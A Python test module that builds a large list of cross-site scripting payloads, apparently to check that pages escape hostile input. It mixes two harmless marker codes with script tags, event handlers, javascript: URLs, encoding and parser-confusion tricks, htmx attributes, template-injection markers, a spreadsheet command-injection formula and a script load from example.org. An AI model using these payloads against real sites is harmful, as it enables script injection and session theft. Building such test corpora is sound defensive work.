"""Words as an attacker would text them; each would set `window.ran` or open a dialog if any page let it."""

from __future__ import annotations

from itertools import product

_CODES = ("window.ran=1", "alert(1)")
_ELEMENTS = (
    "<script>{}</script>", "<ScRiPt>{}</ScRiPt>", "<script\n>{}</script\n>", "<script/x>{}</script>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</option></select><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", "<svg><script>{}</script></svg>",
    "<img src=x onerror={}>", '<img src=x onerror="{}">', "<img/src=x/onerror={}>", "<IMG SRC=x ONERROR={}>",
    "<svg onload={}>", "<svg/onload={}>", "<body onload={}>", "<iframe srcdoc='<script>parent.{}</script>'>",
    "<iframe onload={}>", "<details open ontoggle={}>", "<video><source onerror={}>", "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<marquee onstart={}>", "<object data=javascript:{}>", "<embed src=javascript:{}>", "<a href=javascript:{}>go</a>",
    "<form action=javascript:{}><button autofocus>", "<math href=javascript:{}>x</math>", "<base href=javascript:{}//>",
    "<link rel=stylesheet href=javascript:{}>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import 'javascript:{}'</style>", "<div style=\"background:url('javascript:{}')\">",
    "<isindex type=image src=x onerror={}>", "<template><img src=x onerror={}></template>",
    "<table background=javascript:{}>", "<p onanimationstart={} style=animation-name:x>",
    "<div hx-on:load={}>", "<div hx-get=/x hx-trigger=load hx-vals=js:{{x:{}}}>", "<div data-hx-on--load={}>",
)  # fmt: skip
_BREAKOUTS = (
    '"><img src=x onerror={}>', "'><img src=x onerror={}>", '" onfocus={} autofocus x="', "' onfocus={} autofocus x='",
    '" onmouseover={} "', "` onload={} `", "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "data:text/html,<script>{}</script>",
    "{{{{{}}}}}", "{{% {} %}}", "${{{}}}", "<%={}%>", "#{{{}}}", "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E", "＜script＞{}＜/script＞", "<scr<script>ipt>{}</scr</script>ipt>", "<<script>{}//<</script>",
    "<script src=//example.org/x?{}></script>", "<script>{}//", "<!--<img src=\"--><img src=x onerror={}//\">",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<svg><style><img src=x onerror={}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>", "\u202e<img src=x onerror={}>", "\ufeff<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>",
    "<x contenteditable onblur={}>x", "<button formaction=javascript:{}>x</button>", "<a ping=javascript:{} href=#>x</a>",
    "<img srcset=x onerror={}>", "<picture><img src=x onerror={}></picture>", "<keygen autofocus onfocus={}>",
    "<frameset onload={}>", "<applet code=javascript:{}>", "<bgsound src=javascript:{}>", "<layer src=javascript:{}></layer>",
    "<xml id=x><a><![CDATA[<img src=x onerror={}>]]></a></xml>", "=cmd|'/c {}'!A1", "@SUM({})", "+{}", "-{}",
    "'; {}; //", "\"; {}; //", "</script><script>{}</script>", "\n\n<script>{}</script>", "<img src='x' onerror\n=\n{}>",
    "<img src=x onerror=\x0b{}>", "<img src=x onerror=eval('{}')>", "<script>setTimeout('{}')</script>",
    "<script>Function('{}')()</script>", "<script>[].constructor.constructor('{}')()</script>",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    form.format(code) for code, form in product(_CODES, (*_ELEMENTS, *_BREAKOUTS))
)  # fmt: skip
